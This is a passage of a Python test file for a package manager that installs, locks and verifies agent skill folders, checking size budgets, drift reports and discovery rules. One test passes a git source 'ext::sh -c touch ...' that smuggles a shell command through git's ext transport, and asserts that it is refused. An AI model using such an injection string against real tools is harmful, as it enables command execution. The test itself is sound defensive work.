    src = tmp_path / "vendor"
    make_skill(src, "broken", raw="---\nname: [unclosed\n---\n")
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(src)), tmp_path / "root")
    # The only skill folder failed: its own code leads, the absence follows from it.
    assert info.value.code == "invalid_skill"
    assert info.value.message.startswith(f"no valid skill in {src}: {src / 'broken' / 'SKILL.md'}")
    assert info.value.fields["source"] == str(src)
    assert list((tmp_path / "root").iterdir()) == []


@needs_git
def test_the_ext_transport_never_runs_a_command(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    marker = env["tmp"] / "pwned"
    result = run("add", f"ext::sh -c touch% {marker}")
    assert result.exit_code == 1
    assert result.output.startswith("invalid_input: ")  # not a URL git may fetch
    with pytest.raises(SkillError) as info:  # and git itself refuses it, whatever its config
        pkg.install_skills(pkg.Source("git", f"ext::sh -c touch% {marker}"), env["tmp"] / "r")
    assert info.value.message.startswith("git fetch failed")
    assert not marker.exists()


def test_an_unknown_client_is_a_usage_error(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    hello(env["tmp"] / "vendor")
    result = run("add", str(env["tmp"] / "vendor"), "--client", "nope")
    assert result.exit_code == 2
    assert "nope" in result.output


def test_install_and_pack_refuse_a_skill_over_the_size_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pkg_sources, "MAX_TOTAL_BYTES", 1000)
    skill = hello(tmp_path / "vendor")
    with open(skill / "assets.bin", "wb") as fh:  # sparse: nothing on disk, 1 GiB to read
        fh.truncate(1 << 30)
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(skill)), tmp_path / "root")
    assert (info.value.code, dict(info.value.fields)) == (
        "too_large",
        {"path": str(skill), "max_bytes": 1000},
    )
    assert list((tmp_path / "root").iterdir()) == []
    with pytest.raises(SkillError) as info:
        pkg.pack_skill(skill, tmp_path / "x.skill")
    assert info.value.code == "too_large"
    assert not (tmp_path / "x.skill").exists()


def test_a_skill_with_more_files_than_an_archive_holds_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pkg_sources, "MAX_MEMBERS", 3)
    skill = hello(tmp_path / "vendor")
    for i in range(3):
        (skill / f"f{i}.md").write_text("x")
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.Source("directory", str(skill)), tmp_path / "root")
    assert info.value.code == "too_large"  # the only skill of the source could not be taken
    assert "more than 3 files" in info.value.message


def test_package_entry_points_refuse_bad_arguments_with_codes(tmp_path: Path) -> None:
    from agent_skills.packages import pack_skill, read_lock, remove_skill, write_lock

    for call in (
        lambda: pack_skill(3),  # type: ignore[arg-type]
        lambda: read_lock(None),  # type: ignore[arg-type]
        lambda: write_lock(b"x", {}),  # type: ignore[arg-type]
        lambda: remove_skill(3, "x"),  # type: ignore[arg-type]
    ):
        with pytest.raises(SkillError) as info:
            call()
        assert info.value.code == "invalid_input"
    for bad in ("", "..", "a/b", "a b", "a:b", 3):
        with pytest.raises(SkillError) as info:
            remove_skill(tmp_path, bad)  # type: ignore[arg-type]
        assert info.value.code == "invalid_input"


# ---------------------------------------------------------------------------------------------
# The lock changes only what an install touches; every locked copy is verified


def test_add_keeps_the_drift_of_other_skills_in_the_lock(
    run: Callable[..., Result], env: dict[str, Path], locked: Path
) -> None:
    (locked / "SKILL.md").write_bytes(MANIFEST + b"Edited.\n")
    (locked / "scripts" / "a.py").write_text("print(1)\n")
    before = run("verify", "--preset", "agents")
    assert before.exit_code == 1
    src = env["tmp"] / "vendor"
    hello(src, "third")
    assert run("add", str(src), "--preset", "agents").exit_code == 0
    after = run("verify", "--preset", "agents")
    assert after.exit_code == 1, after.output
    assert after.output == before.output
    expected = "changed skill hello: .agents/skills/hello\n  changed SKILL.md\n"
    expected += "  added scripts/a.py\n"
    assert expected in after.output
    assert run("remove", "third", "--preset", "agents").exit_code == 0
    assert run("verify", "--preset", "agents").output == before.output


def test_add_of_a_shadowed_skill_locks_the_installed_copy_and_warns(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    hello(env["ws"] / ".claude" / "skills", "pdf-tools")
    src = env["tmp"] / "vendor"
    hello(src, "pdf-tools")
    result = run("add", str(src))
    assert result.exit_code == 0, result.output
    installed = env["ws"] / ".agents" / "skills" / "pdf-tools"
    assert (
        f"warning: pdf-tools installed in {installed} is shadowed by "
        f"{env['ws'] / '.claude' / 'skills' / 'pdf-tools'}"
    ) in result.output
    entries = lock_of(env["ws"] / "skills.lock.json")["skills"]
    assert [(e["dir"], e["origin"]["source"]) for e in entries] == [
        (".agents/skills/pdf-tools", str(src))
    ]
    assert run("lock").exit_code == 0
    entries = lock_of(env["ws"] / "skills.lock.json")["skills"]
    assert sorted(e["dir"] for e in entries) == [
        ".agents/skills/pdf-tools",
        ".claude/skills/pdf-tools",
    ]
    assert [e.get("origin", {}).get("source") for e in entries if "agents" in e["dir"]] == [
        str(src)
    ]
    assert run("verify").exit_code == 0
    (installed / "scripts" / "hi.sh").write_bytes(b"#!/bin/sh\necho HI\n")
    result = run("verify")
    assert result.exit_code == 1
    assert "changed skill pdf-tools: .agents/skills/pdf-tools\n  changed scripts/hi.sh\n" in (
        result.output
    )


def test_lock_and_verify_see_the_same_roots_from_any_directory(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    hello(env["ws"] / ".agents" / "skills")
    hello(env["ws"] / "src" / ".agents" / "skills", "nested-agents")
    deep = env["ws"] / "src" / "deep"
    deep.mkdir()
    assert run("lock").exit_code == 0
    result = run("verify", cwd=deep)
    assert result.exit_code == 0, result.output
    assert run("lock", cwd=deep).exit_code == 0
    assert [e["name"] for e in lock_of(env["ws"] / "skills.lock.json")["skills"]] == ["hello"]
    assert run("verify").exit_code == 0


def test_lock_of_an_undecodable_skill_dir_is_utf8_and_round_trips(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    root = env["ws"] / ".agents" / "skills"
    hello(root)
    odd = os.fsencode(root) + b"/n\xff\xfe"
    os.mkdir(odd)
    with open(odd + b"/SKILL.md", "wb") as fh:
        fh.write(b"---\nname: odd\ndescription: Odd.\n---\nBody.\n")
    assert run("lock", "--preset", "agents").exit_code == 0
    raw = (env["ws"] / "skills.lock.json").read_bytes()
    dirs = [e["dir"] for e in json.loads(raw.decode("utf-8"))["skills"]]
    assert ".agents/skills/n\\xff\\xfe" in dirs
    result = run("verify", "--preset", "agents")
    assert result.exit_code == 0, result.output
    src = env["tmp"] / "vendor"
    hello(src, "third")
    assert run("add", str(src), "--preset", "agents").exit_code == 0
    assert run("verify", "--preset", "agents").exit_code == 0


def test_add_of_a_misspelt_skill_suggests_the_name(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    src = env["tmp"] / "vendor"
    hello(src, "other")
    hello(src, "second")
    result = run("add", str(src), "--skill", "othr")
    assert result.exit_code == 1
    assert result.output.startswith(
        f"not_found: no skill named othr in {src} (did you mean other?)"
    )
    with pytest.raises(SkillError) as info:
        pkg.install_skills(pkg.parse_source(str(src)), env["tmp"] / "r", names=["othr"])
    assert info.value.fields["suggestions"] == ["other"]


def test_a_source_is_searched_as_discovery_searches_a_root(tmp_path: Path) -> None:
    # One nested search (SPEC §21.4): what a .gitignore ignores, hidden folders and node_modules
    # are not searched, a linked folder is not followed, and the depth stops at three levels.
    src = tmp_path / "repo"
    make_skill(src / "skills" / "a", "alpha")
    make_skill(src / "skills" / "deep" / "er" / "still", "too-deep")
    make_skill(src / "build", "built")
    make_skill(src / ".hidden", "hidden")
    make_skill(src / "node_modules", "vendored")
    (src / ".gitignore").write_text("build/\n")
    make_skill(tmp_path / "elsewhere", "linked")
    symlink(src / "skills" / "linked", tmp_path / "elsewhere" / "linked")
    installed = pkg.install_skills(pkg.Source("directory", str(src)), tmp_path / "root")
    assert [item.name for item in installed] == ["alpha"]
    assert sorted(p.name for p in (tmp_path / "root").iterdir()) == ["alpha"]


# -- lock and verify read what an install copies, no more (SPEC §25.3-§25.4, §30.3) ----------


@pytest.mark.parametrize("apparent", [8 << 30, pytest.param(64 << 30, marks=pytest.mark.slow)])
def test_lock_and_verify_hash_no_more_than_an_install_copies(
    run: Callable[..., Result], env: dict[str, Path], apparent: int
) -> None:
    # A sparse file of 8 or 64 GiB takes no disk: hashing it whole took minutes. Both stop at
    # the bytes an install copies at most, with a coded error, and write nothing.
    skill = hello(env["ws"] / ".agents" / "skills")
    assert run("lock", "--preset", "agents").exit_code == 0
    before = (env["ws"] / "skills.lock.json").read_bytes()
    with open(skill / "references.bin", "wb") as fh:
        fh.truncate(apparent)
    for command in ("lock", "verify"):
        result = ends_within(lambda c=command: run(c, "--preset", "agents"), 30)
        assert result.exit_code == 1, result.output
        assert result.stderr.startswith(f"too_large: {skill} holds more than 536870912 bytes")
    assert (env["ws"] / "skills.lock.json").read_bytes() == before
    with pytest.raises(SkillError) as err:
        ends_within(
            lambda: pkg.lock_entry(skill, scope="project", source="agents", workspace=env["ws"]), 30
        )
    assert (err.value.code, err.value.fields) == (
        "too_large",
        {"path": str(skill), "max_bytes": 512 * 1024 * 1024},
    )


@pytest.mark.slow
def test_verify_agrees_with_an_install_of_more_files_than_discovery_lists(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    # An install records every file (up to 10 000); lock and verify list as many, not the
    # 5 000 a skill's listing stops at by default: a fresh install verifies, and an edit of its
    # last file is drift.
    src = env["tmp"] / "src"
    skill = hello(src)
    refs = skill / "references"
    refs.mkdir()
    for i in range(5_050):
        (refs / f"f{i:05d}.md").write_bytes(b"x")
    assert run("add", str(src), "--skill", "hello").exit_code == 0
    installed = env["ws"] / ".agents" / "skills" / "hello"
    recorded = lock_of(env["ws"] / "skills.lock.json")["skills"][0]["files"]
    assert len(recorded) == 5_052  # SKILL.md, scripts/hi.sh and the references
    result = run("verify")
    assert result.exit_code == 0, result.output
    (installed / "references" / "f05049.md").write_bytes(b"y")
    result = run("verify")
    assert result.exit_code == 1
    assert "changed references/f05049.md" in result.output
    assert run("lock").exit_code == 0
    assert len(lock_of(env["ws"] / "skills.lock.json")["skills"][0]["files"]) == 5_052


@pytest.mark.slow
def test_lock_and_verify_refuse_a_skill_with_more_files_than_they_list(
    run: Callable[..., Result], env: dict[str, Path]
) -> None:
    # A lock that left the 10 001st file out would never see it change: lock and verify refuse
    # the skill (too_large, as add does), and write nothing.
    skill = hello(env["ws"] / ".agents" / "skills")
    assert run("lock", "--preset", "agents").exit_code == 0
    before = (env["ws"] / "skills.lock.json").read_bytes()
    refs = skill / "r"
    refs.mkdir()
    for i in range(10_000):
        (refs / f"{i:05d}").write_bytes(b"")
    for command in ("lock", "verify"):
        result = run(command, "--preset", "agents")
        assert result.exit_code == 1, result.output
        assert result.stderr.splitlines()[-1].startswith(
            f"too_large: {skill} has more files than a lock records (10000)"
        )
    assert (env["ws"] / "skills.lock.json").read_bytes() == before
